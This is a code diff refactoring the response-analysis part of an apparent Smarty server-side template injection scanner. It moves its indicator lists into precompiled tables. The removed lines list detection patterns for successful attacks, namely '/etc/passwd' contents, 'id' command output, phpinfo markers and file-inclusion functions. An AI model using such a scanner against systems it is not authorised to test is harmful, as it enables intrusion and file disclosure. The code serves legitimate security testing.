+            engine=self.name
+        )
+    
+    def _iter_indicators(self, checks: int, payload: str, payload_lower: str,
+                         response: str, response_lower: str) -> Iterator[Tuple[int, str]]:
+        """
+        Yield (confidence rank, evidence) pairs for every Smarty indicator found.
         
-        # PHP-specific indicators
-        php_indicators = [
-            'PHP Version',
-            'PHP/.*?Server',
-            'phpinfo()',
-            'Zend Engine',
-            'System.*?Linux',
-            'root:x:0:0',  # /etc/passwd content
-            'uid=',  # id command output
-            'gid=',  # id command output
-        ]
+        Groups are ordered by expected selectivity and strength: payload-gated
+        HIGH checks first, then unconditional HIGH checks, then MEDIUM ones.
+        """
+        tables = _SCAN_TABLES
+        hits = _hyperscan_hits(_HYPERSCAN_DATABASE, response) if _HYPERSCAN_DATABASE is not None else None
         
-        for indicator in php_indicators:
-            if re.search(indicator, response, re.IGNORECASE):
-                evidence_parts.append(f"PHP execution indicator: {indicator}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        # Math operation detection
+        if checks & _CHECK_MATH:
+            math_hits = _matching(tables['math_result'], response)
+            if math_hits:
+                yield _RANK_HIGH, f"Mathematical operation executed: found {math_hits[0]}"
         
         # Check for successful $smarty variable access
-        if '$smarty' in payload:
-            smarty_patterns = [
-                r'Smarty.*?\d+\.\d+',  # Version string
-                r'smarty.*?version.*?\d+',
-                r'template.*?dir',
-                r'compile.*?dir',
-                r'cache.*?dir',
-            ]
-            
-            for pattern in smarty_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Smarty object access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_SMARTY_VAR:
+            for pattern in _matching(tables['smarty_pattern'], response_lower, hits):
+                yield _RANK_HIGH, f"Smarty object access: {pattern}"
         
         # Check for constant access
-        if 'smarty.const' in payload:
-            const_patterns = [
-                r'PHP.*?\d+\.\d+',  # PHP version
-                r'Linux|Windows|Darwin',  # OS
-                r'apache|nginx|cli',  # SAPI
-                r'/.*?/',  # File paths
-            ]
-            
-            for pattern in const_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"PHP constant access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
-        
-        # Check for server variable access
-        if 'smarty.server' in payload:
-            server_patterns = [
-                r'Apache|nginx|IIS',  # Server software
-                r'GET|POST|PUT|DELETE',  # HTTP methods
-                r'HTTP/1\.[01]',  # HTTP version
-                r'\d+\.\d+\.\d+\.\d+',  # IP addresses
-            ]
-            
-            for pattern in server_patterns:
-                if re.search(pattern, response, re.IGNORECASE):
-                    evidence_parts.append(f"Server variable access: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.MEDIUM)
-                    is_vulnerable = True
+        if checks & _CHECK_CONST:
+            for pattern in _matching(tables['const_pattern'], response_lower, hits):
+                yield _RANK_HIGH, f"PHP constant access: {pattern}"
         
         # Check for string manipulation results
-        if any(func in payload.lower() for func in ['upper', 'lower', 'capitalize']):
-            if 'TESTSTRING' in payload:
-                if ('upper' in payload.lower() and 'TESTSTRING' in response) or \
-                   ('lower' in payload.lower() and 'teststring' in response) or \
-                   ('capitalize' in payload.lower() and 'Test' in response):
-                    evidence_parts.append("String manipulation function executed")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_STRING_MODIFIER:
+            for modifier, result in _STRING_MODIFIER_RESULTS:
+                if modifier in payload_lower and result in response:
+                    yield _RANK_HIGH, "String manipulation function executed"
+                    break
         
         # Check for assign function execution
-        if '{assign' in payload:
-            assign_match = re.search(r"assign.*?var='(\w+)'.*?value='([^']*)'", payload)
+        if checks & _CHECK_ASSIGN:
+            assign_match = _ASSIGN_RE.search(payload)
             if assign_match:
                 var_name = assign_match.group(1)
                 var_value = assign_match.group(2)
                 if var_value in response:
-                    evidence_parts.append(f"Assign function executed: ${var_name} = {var_value}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+                    yield _RANK_HIGH, f"Assign function executed: ${var_name} = {var_value}"
         
         # Check for specific test strings
-        test_strings = [
-            'TESTSTRING',
-            'teststring',
-            'Test',
-        ]
-        
-        for test_str in test_strings:
-            if test_str in response and test_str in payload:
-                evidence_parts.append(f"Test string executed: {test_str}")
-                confidence = max(confidence, ConfidenceLevel.HIGH)
-                is_vulnerable = True
+        if checks & _CHECK_TEST_STRING:
+            for test_str, evidence in _TEST_STRINGS:
+                if test_str in response and test_str in payload:
+                    yield _RANK_HIGH, evidence
         
         # Check for file inclusion results
-        if any(func in payload for func in ['include', 'fetch', 'file_get_contents']):
-            file_patterns = [
-                r'root:x:0:0',  # /etc/passwd
-                r'bin/bash',    # /etc/passwd
-                r'daemon:x:',   # /etc/passwd
-                r'\[.*?\]',     # Config file sections
-            ]
-            
-            for pattern in file_patterns:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"File inclusion successful: {pattern}")
-                    confidence = max(confidence, ConfidenceLevel.HIGH)
-                    is_vulnerable = True
+        if checks & _CHECK_FILE:
+            for pattern in _matching(tables['file_pattern'], response, hits):
+                yield _RANK_HIGH, f"File inclusion successful: {pattern}"
         
-        # Compile evidence
-        if evidence_parts:
-            evidence = "Smarty SSTI detected: " + "; ".join(evidence_parts)
-        else:
-            evidence = "No Smarty SSTI indicators found"
-            
-        return EngineResult(
-            is_vulnerable=is_vulnerable,
-            confidence=confidence,
-            payload=payload,
-            response=response[:500],  # Limit response size
-            evidence=evidence,
-            engine=self.name
-        )
+        # Object disclosure detection
+        for pattern in _matching(tables['object_disclosure'], response_lower, hits):
+            yield _RANK_HIGH, f"Object disclosure detected: {pattern}"
+        
+        # Function execution detection
+        for pattern in _matching(tables['function_execution'], response_lower, hits):
+            yield _RANK_HIGH, f"Function execution detected: {pattern}"
+        
+        # PHP-specific indicators
+        for pattern in _matching(tables['php_indicator'], response_lower, hits):
+            yield _RANK_HIGH, f"PHP execution indicator: {pattern}"
+        
+        # Check for server variable access
+        if checks & _CHECK_SERVER:
+            for pattern in _matching(tables['server_pattern'], response_lower, hits):
+                yield _RANK_MEDIUM, f"Server variable access: {pattern}"
+        
+        # Variable disclosure detection
+        for pattern in _matching(tables['variable_disclosure'], response_lower, hits):
+            yield _RANK_MEDIUM, f"Variable disclosure detected: {pattern}"
+        
+        # Smarty-specific error messages
+        for pattern in _matching(tables['smarty_error'], response_lower, hits):
+            yield _RANK_MEDIUM, f"Smarty error detected: {pattern}"
     
-    def get_payloads_for_context(self, context: str) -> List[Payload]:
-        """Get payloads suitable for a specific context."""
-        return [p for p in self.payloads if p.context == context]
+    def get_payloads_for_context(self, context: str) -> Tuple[Payload, ...]:
+        """Get payloads suitable for a specific context (read-only tuple)."""
+        return _PAYLOADS_BY_CONTEXT.get(context, ())
     
-    def get_payloads_by_type(self, payload_type: str) -> List[Payload]:
-        """Get payloads of a specific type."""
-        return [p for p in self.payloads if p.type == payload_type]
+    def get_payloads_by_type(self, payload_type: str) -> Tuple[Payload, ...]:
+        """Get payloads of a specific type (read-only tuple)."""
+        return _PAYLOADS_BY_TYPE.get(payload_type, ())
     
     def encode_payload(self, payload: str, context: str) -> str:
         """
@@ -664,11 +701,11 @@ class SmartyEngine(BaseTemplateEngine):
         if context == "url":
             return urllib.parse.quote(payload)
         elif context == "html":
-            return payload.replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')
+            return payload.translate(_HTML_ESCAPE_TABLE)
         elif context == "attribute":
-            return payload.replace('"', '&quot;').replace("'", '&#x27;')
+            return payload.translate(_ATTRIBUTE_ESCAPE_TABLE)
         elif context == "javascript":
-            return payload.replace('\\', '\\\\').replace('"', '\\"').replace("'", "\\'")
+            return payload.translate(_JAVASCRIPT_ESCAPE_TABLE)
         else:
             return payload
     
@@ -678,8 +715,8 @@ class SmartyEngine(BaseTemplateEngine):
             'name': self.name,
             'description': self.description,
             'payloads': len(self.payloads),
-            'contexts': list(set(p.context for p in self.payloads)),
-            'types': list(set(p.type for p in self.payloads)),
+            'contexts': list(_PAYLOADS_BY_CONTEXT),
+            'types': list(_PAYLOADS_BY_TYPE),
             'framework': 'Smarty',
             'language': 'PHP',
             'syntax': '{$variable} and {function}'